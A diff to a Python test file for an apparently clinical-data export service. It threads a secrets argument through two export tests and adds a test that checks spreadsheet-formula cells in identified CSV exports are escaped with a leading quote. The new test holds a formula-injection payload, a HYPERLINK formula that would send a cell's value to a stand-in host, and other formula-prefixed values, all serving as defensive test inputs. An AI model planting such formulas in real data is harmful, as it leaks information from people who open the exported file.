@@ -2,6 +2,7 @@
 pseudonyms, nothing identifying when de-identified, formats that load in pandas, DuckDB and
 pyarrow, scopes, caseloads and the audit trail."""
 
+import csv
 import dataclasses
 import io
 import re
@@ -537,7 +538,11 @@ async def test_the_postgresql_fast_path_writes_the_generic_paths_bytes(
         )
         async with app.state.sessionmaker() as session:
             prepared = await export_runner.prepare(
-                session, actor=actor, query=query, settle_seconds=0
+                session,
+                actor=actor,
+                query=query,
+                settle_seconds=0,
+                secrets=app.state.settings.secret_box(),
             )
         if "clinician" in window:
             prepared = dataclasses.replace(prepared, clinician_id=uuid.UUID(window["clinician"]))
@@ -573,7 +578,13 @@ async def test_a_broken_off_fast_path_export_gives_its_connection_back_and_is_au
     actor = exporter(tenant)
     query = export_runner.ExportQuery("submissions", "ndjson", None, None, None, False)
     async with app.state.sessionmaker() as session:
-        prepared = await export_runner.prepare(session, actor=actor, query=query, settle_seconds=0)
+        prepared = await export_runner.prepare(
+            session,
+            actor=actor,
+            query=query,
+            settle_seconds=0,
+            secrets=app.state.settings.secret_box(),
+        )
     body = export_runner.stream(
         prepared,
         engine=app.state.engine,
@@ -595,3 +606,30 @@ async def test_a_broken_off_fast_path_export_gives_its_connection_back_and_is_au
         )
     assert finish["outcome"] == "incomplete"
     assert orjson.loads(finish["details"])["rows"] == 1
+
+
+async def test_identified_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
+    attune: Attune,
+) -> None:
+    tenant = await attune.tenant()
+    formula = '=HYPERLINK("http://x.example/?leak="&A1,"open")'
+    clinician = await tenant.clinician("Dr Formula", external_id="@SUM(1,2)")
+    client = await tenant.client(external_id=formula)
+    episode = await tenant.episode(client_id=client["id"], clinician_id=clinician["id"])
+    sub = await submit(
+        tenant, episode["id"], "ors", 1, ors(2, 2, 2, 2), respondent="collateral", rater="+SUM(1)"
+    )
+    expect(
+        await tenant.http.post(
+            f"/v1/submissions/{sub['id']}/void", json={"reason": "-2+3"}, headers=tenant.admin
+        ),
+        200,
+    )
+    content = await raw(tenant, "submissions", format="csv", identified="true")
+    (row,) = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
+    assert row["client_external_id"] == "'" + formula
+    assert row["clinician_external_id"] == "'@SUM(1,2)"
+    assert row["rater"] == "'+SUM(1)"
+    assert row["void_reason"] == "'-2+3"
+    assert row["session_number"] == "1"
+    assert float(row["total"]) == 8.0  # numbers stay numbers
